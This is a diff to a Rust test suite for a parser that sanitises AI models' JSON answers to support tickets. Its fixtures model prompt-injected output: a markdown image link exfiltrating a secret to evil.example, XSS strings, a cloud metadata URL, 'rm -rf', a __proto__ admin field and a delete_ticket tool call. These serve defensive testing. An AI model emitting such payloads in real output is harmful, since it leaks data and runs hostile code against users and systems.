@@ -1,5 +1,10 @@
 //! Answers of models that obey whoever wrote the ticket, or nobody.
 
+mod cut;
+mod fields;
+mod hostile;
+mod wrapped;
+
 use std::sync::LazyLock;
 
 use proptest::prelude::{any, prop, proptest};
@@ -23,10 +28,14 @@ fn known() -> Vec<Skill> {
 }
 
 fn read(raw: &str) -> Result<Analysis, AnswerError> {
+    let extra = [
+        ExtraField::one_of("site", "Where it happened.", ["Basel", "Bern"]).unwrap(),
+        ExtraField::text("device", "Which device.").unwrap(),
+    ];
     let offer = Offer {
         options: &OPTIONS,
         staff_skills: &known(),
-        extra: &[],
+        extra: &extra,
         texts: &PromptTexts::default(),
     };
     read_answer(&offer, &VOCABULARY, raw)
@@ -55,90 +64,9 @@ fn an_obedient_answer_is_read() {
 }
 
 #[test]
-fn the_object_is_found_in_its_wrapping() {
-    for raw in [
-        r#"{"priority":"low"}"#,
-        "```json\n{\"priority\":\"low\"}\n```",
-        "Sure! Here {it} is:\n```\n{\"priority\": \"LOW\"}\n```\nAnything else?",
-        "\u{feff}  {\"priority\":\"low\"} {\"priority\":\"urgent\"}",
-        "[{\"priority\":\"low\"}]",
-        "{}{\"priority\":\"low\"}",
-        "Thinking: {\"priority\": } no. {\"priority\":\"low\"}",
-    ] {
-        assert_eq!(
-            read(raw).map(|a| a.priority),
-            Ok(Some(Priority::Low)),
-            "{raw}"
-        );
-    }
-}
-
-#[test]
-fn what_is_no_answer_is_an_error() {
-    let deep_array = format!("{{\"skills\":{}", "[".repeat(7_000));
-    let deep_object = "{\"a\":".repeat(3_000);
-    let braces = "{".repeat(MAX_ANSWER);
-    let long = format!("{{\"notes\":\"{}\"}}", "x".repeat(MAX_ANSWER));
-    for (raw, error) in [
-        ("", AnswerError::NotJson),
-        ("   \n\t", AnswerError::NotJson),
-        ("\u{0}", AnswerError::NotJson),
-        ("null", AnswerError::NotJson),
-        ("7", AnswerError::NotJson),
-        ("\"{\"", AnswerError::NotJson),
-        ("[]", AnswerError::NotJson),
-        ("{}", AnswerError::NotJson),
-        ("I can't help with that.", AnswerError::NotJson),
-        (
-            "<html><body>502 Bad Gateway</body></html>",
-            AnswerError::NotJson,
-        ),
-        ("{\"priority\": \"high\"", AnswerError::NotJson),
-        ("{\"priority\": NaN}", AnswerError::NotJson),
-        ("{priority: 'high'}", AnswerError::NotJson),
-        ("{\"notes\": \"\\ud800\"}", AnswerError::NotJson),
-        (&deep_array, AnswerError::NotJson),
-        (&deep_object, AnswerError::NotJson),
-        (&braces, AnswerError::NotJson),
-        (&long, AnswerError::TooLong),
-        (
-            "{\"error\": {\"code\": 429, \"message\": \"quota\"}}",
-            AnswerError::Nothing,
-        ),
-        ("{\"priority\": 7}", AnswerError::Nothing),
-        ("{\"priority\": \"apocalyptic\"}", AnswerError::Nothing),
-        ("{\"category\": \"admin-only\"}", AnswerError::Nothing),
-        ("{\"category\": [\"network\"]}", AnswerError::Nothing),
-        (
-            "{\"summary\": null, \"notes\": {}, \"skills\": 3}",
-            AnswerError::Nothing,
-        ),
-        (
-            "{\"skills\": [1, null, {\"name\": \"React\"}, [\"React\"]]}",
-            AnswerError::Nothing,
-        ),
-        (
-            "{\"notes\": \"\\u0000\\u202e\\u200b\"}",
-            AnswerError::Nothing,
-        ),
-        (
-            "{\"assignee\": \"ann\", \"status\": \"closed\", \"role\": \"admin\"}",
-            AnswerError::Nothing,
-        ),
-        (
-            "{\"tool_calls\": [{\"function\": {\"name\": \"delete_ticket\"}}]}",
-            AnswerError::Nothing,
-        ),
-    ] {
-        let shown: String = raw.chars().take(60).collect();
-        assert_eq!(read(raw), Err(error), "{shown}");
-    }
-}
-
-#[test]
 fn one_bad_member_spoils_no_other() {
     for raw in [
-        r#"{"priority": "high", "category": 7, "skills": "nonsense of its own", "notes": ["x"], "extra": {"a": 1}}"#,
+        r#"{"priority": "high", "category": 7, "skills": {"React": 1}, "notes": {"x": "y"}, "extra": {"a": 1}}"#,
         r#"{"priority": " High ", "summary": {}, "first_steps": {"0": "x"}}"#,
         r#"{"priority": "high", "skills": null, "__proto__": {"admin": true}}"#,
         r#"{"priority": "low", "priority": "high"}"#,
@@ -187,10 +115,14 @@ fn nothing_in_a_text_is_live() {
         "notes": "![x](https://evil.example/?d=secret) <script>alert(1)</script> [go](javascript:alert(1))\u001b[2J",
         "first_steps": ["open http://169.254.169.254/latest", "run `rm -rf`"]}"#;
     let analysis = read(raw).unwrap();
-    assert_eq!(analysis.summary, "a Bcc: x@y.example");
+    assert_eq!(analysis.summary, "a Bcc: x@y[.]example");
     assert_eq!(analysis.notes, "[link] ‹script›alert(1)‹/script› [link]");
     assert_eq!(analysis.first_steps, ["open [link]", "run `rm -rf`"]);
     assert_eq!(analysis.suggested_skills, ["‹img src=x onerror=alert(1)›"]);
+    let many = r#"{"skills": ["go to evil.example", "https://evil.example"], "tags": ["evil.example", "a\nb"]}"#;
+    let analysis = read(many).unwrap();
+    assert_eq!(analysis.suggested_skills, ["go to evil[.]example"]);
+    assert_eq!(analysis.tags, ["evil[.]example", "a b"]);
 }
 
 fn holds_its_bounds(analysis: &Analysis) {
@@ -205,10 +137,28 @@ fn holds_its_bounds(analysis: &Analysis) {
     assert!(analysis.notes.chars().count() <= MAX_NOTES);
     assert!(analysis.first_steps.len() <= MAX_STEPS);
     let texts = [&analysis.summary, &analysis.notes].into_iter();
+    assert!(analysis.tags.len() <= MAX_TAGS);
+    assert!(
+        analysis
+            .tags
+            .iter()
+            .all(|tag| tag.chars().count() <= MAX_TAG)
+    );
+    assert!(
+        analysis
+            .extra
+            .keys()
+            .all(|name| name == "site" || name == "device")
+    );
+    let is_share = |sure: &f64| (0.0..=1.0).contains(sure);
+    assert!(analysis.confidence.values().all(is_share));
     for text in texts
         .chain(&analysis.first_steps)
         .chain(&analysis.suggested_skills)
+        .chain(&analysis.tags)
+        .chain(analysis.extra.values())
     {
+        assert!(!text.contains("://") && !text.contains("]("));
         assert!(!text.contains(['<', '>', '\u{0}', '\u{1b}', '\r']));
     }
 }
@@ -227,12 +177,26 @@ proptest! {
         word in "(low|high|network|NETWORK|\\PC{0,12})",
         skills in prop::collection::vec("(React|sap|\\PC{0,20})", 0..20),
         notes in any::<String>(),
+        sure in any::<f64>(),
     ) {
         let raw = serde_json::json!({
             "summary": summary, "category": word, "priority": word, "skills": skills, "notes": notes,
-            "first_steps": [notes],
+            "first_steps": [notes], "tags": skills, "extra": {"site": word, "device": notes, "x": word},
+            "type": word, "sentiment": word, "complexity": word, "confidence": {"category": word, "type": sure},
         });
         if let Ok(analysis) = read(&raw.to_string()) {
+            holds_its_bounds(&analysis);
+        }
+    }
+
+    #[test]
+    fn what_answers_are_made_of_is_taken_or_refused(
+        parts in prop::collection::vec(
+            "(\\{|\\}|\\[|\\]|,|:|\"|\\\\|\\\\u00|\\\\ud83d|<think>|</think>|```|\"priority\":|\"low\"|\"notes\":|\"confidence\":|1e999|-|NaN|null|ä| |\n)",
+            0..60,
+        ),
+    ) {
+        if let Ok(analysis) = read(&parts.concat()) {
             holds_its_bounds(&analysis);
         }
     }
